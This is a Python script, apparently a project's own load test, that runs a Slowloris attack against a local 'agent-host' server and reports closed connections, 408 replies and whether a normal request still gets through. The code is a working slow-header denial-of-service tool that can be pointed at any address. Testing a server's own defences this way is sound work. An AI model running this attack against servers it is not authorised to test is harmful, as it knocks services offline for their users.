#!/usr/bin/env python3
"""Slowloris against a running agent-host: N connections each trickle one header byte every
INTERVAL seconds and never finish their request. After SECONDS it reports how many the host has
closed, how many got 408, and whether a normal request is still served meanwhile.

    scripts/slowloris.py 127.0.0.1:8080 --connections 1000 --interval 0.2 --seconds 13

With the default server.limits.max_connections_per_client (256) the host refuses all but 256 of
them at once (503); set it above N to watch the header deadline alone.

(docs/operations.md: "Connections and what the host refuses"; the default header deadline is 10 s.)
"""
import argparse, resource, selectors, socket, time

parser = argparse.ArgumentParser()
parser.add_argument("address", help="host:port of agent-host")
parser.add_argument("--connections", type=int, default=1000)
parser.add_argument("--interval", type=float, default=0.2)
parser.add_argument("--seconds", type=float, default=13)
parser.add_argument("--probe-from", default="127.0.0.2",
                    help="source address of the normal request made halfway (another client than the attacker)")
args = parser.parse_args()
host, port = args.address.rsplit(":", 1)
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

head = b"GET /health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 100000
selector = selectors.DefaultSelector()
sockets, received, closed_at, opened_at = [], {}, {}, {}
start = time.monotonic()
for i in range(args.connections):
    s = socket.create_connection((host, int(port)))
    opened_at[s] = time.monotonic() - start
    s.setblocking(False)
    sockets.append(s)
    received[s] = b""
    selector.register(s, selectors.EVENT_READ)
sent = 0
next_byte = time.monotonic()
normal = None
while time.monotonic() - start < args.seconds and len(closed_at) < len(sockets):
    for key, _ in selector.select(timeout=0.02):
        s = key.fileobj
        try:
            data = s.recv(65536)
        except ConnectionResetError:
            data = b""
        if data:
            received[s] += data
        else:
            closed_at[s] = time.monotonic() - start
            selector.unregister(s)
    if time.monotonic() >= next_byte:
        for s in sockets:
            if s not in closed_at:
                try:
                    s.send(head[sent:sent + 1])
                except OSError:
                    pass
        sent += 1
        next_byte += args.interval
    if normal is None and time.monotonic() - start > args.seconds / 2:
        try:
            probe = socket.create_connection((host, int(port)), timeout=2, source_address=(args.probe_from, 0))
            probe.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n")
            normal = probe.recv(100).split(b"\r\n")[0].decode()
            probe.close()
        except OSError as error:
            normal = f"failed: {error}"

open_count = len(sockets) - len(closed_at)
got408 = sum(1 for s in sockets if received[s].startswith(b"HTTP/1.1 408"))
times = sorted(closed_at[s] - opened_at[s] for s in closed_at)
print(f"{args.connections} slowloris connections, one byte every {args.interval} s, watched {time.monotonic() - start:.1f} s")
print(f"still open: {open_count}; closed by the host: {len(closed_at)}; answered 408: {got408}")
if times:
    print(f"each closed between {times[0]:.2f} s and {times[-1]:.2f} s after it opened")
print(f"a normal GET /health meanwhile: {normal}")
